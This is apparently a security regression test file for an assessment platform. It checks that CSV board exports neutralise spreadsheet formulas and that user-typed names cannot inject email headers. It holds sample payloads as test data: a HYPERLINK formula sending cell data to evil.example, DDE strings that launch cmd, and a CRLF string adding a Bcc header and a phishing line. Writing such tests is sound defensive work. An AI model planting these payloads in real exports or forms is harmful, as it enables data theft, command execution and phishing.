"""Finding 6 (exports and mail): CSV cells that a spreadsheet would run as formulas are neutralised; text a person
typed (a name with line breaks) cannot add lines or headers to the platform's emails."""

from __future__ import annotations

import csv
import io
from email import message_from_bytes
from email.policy import default as default_policy

from tests.review import factories as f
from tests.security.conftest import post_form

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, s, signed_in):
    pos = f.position(s, "ml-intern", prompts=0, essay=False, weight_coding=1.0)
    admin_user = f.user(s, "admin@staff.org", "admin", "=Ann Admin")
    s.commit()
    from assessment.models import Decision

    for i, formula in enumerate(FORMULAS):
        app_row = f.candidate(s, pos, f"c{i}@example.com", name=formula)
        f.submission(s, app_row, score=0.5)
        s.add(Decision(application_id=app_row.id, decision="hold", note=formula, decided_by_id=admin_user.id))
    s.commit()
    admin = signed_in("admin@staff.org")
    text = admin.get("/review/positions/ml-intern/board.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    names = sorted(r["name"] for r in rows)
    assert names == sorted("'" + formula for formula in FORMULAS)  # kept readable, just not executable
    assert {r["decided_by"] for r in rows} == {"'=Ann Admin"}
    # The JSON API is not a spreadsheet: it keeps the values as they are.
    from assessment.accounts.api_tokens import create_token

    with app.app_context():
        from assessment.extensions import session

        _, secret = create_token(session(), "ats", ["board:read"], 1)
    data = (
        app.test_client()
        .get("/api/v1/positions/ml-intern/board", headers={"Authorization": f"Bearer {secret}"})
        .get_json()
    )
    assert sorted(r["name"] for r in data["rows"]) == sorted(FORMULAS)


INJECTED = "Eve\r\nBcc: victim@example.net\r\n\r\nYour account is suspended. Log in at http://evil.example/login"


def messages(outbox) -> list:
    return [message_from_bytes(p.read_bytes(), policy=default_policy) for p in sorted(outbox.glob("*.eml"))]


def assert_clean(message) -> None:
    assert message["Bcc"] is None and "victim@example.net" not in str(message["To"])
    body = message.get_content()
    lines = body.splitlines()
    assert not any(line.startswith(("Your account is suspended", "Bcc:")) for line in lines), body
    assert any("Eve" in line and "Your account is suspended" in line for line in lines)  # kept, on one line


def test_a_name_with_line_breaks_cannot_add_lines_or_headers_to_mail(app, settings, s, signed_in, client):
    response = post_form(client, "/register", {"name": INJECTED, "email": "eve@example.com"})
    assert response.status_code == 200
    [confirmation] = messages(settings.outbox_dir)
    assert_clean(confirmation)

    f.position(s, "ml-intern", prompts=0, essay=False, weight_coding=1.0)
    f.user(s, "admin@staff.org", "admin", "Ann Admin")
    s.commit()
    admin = signed_in("admin@staff.org")
    for path in settings.outbox_dir.glob("*.eml"):
        path.unlink()
    assert (
        post_form(
            admin, "/admin/positions/ml-intern/invitations", {"name": INJECTED, "email": "eve2@example.com"}
        ).status_code
        == 302
    )
    assert post_form(admin, "/admin/reviewers", {"name": INJECTED, "email": "eve3@example.com"}).status_code == 302
    sent = messages(settings.outbox_dir)
    assert len(sent) == 2
    for message in sent:
        assert_clean(message)


def test_header_fields_cannot_be_split_into_new_headers():
    from assessment.mail import build_message

    message = build_message(
        "Assessment <no-reply@example.com>",
        "eve@example.com\r\nBcc: victim@example.net",
        "Your application\r\nBcc: victim@example.net",
        "Hello\n",
    )
    raw = bytes(message).decode()
    headers = raw.split("\n\n", 1)[0]
    assert "\nBcc:" not in headers and message["Bcc"] is None
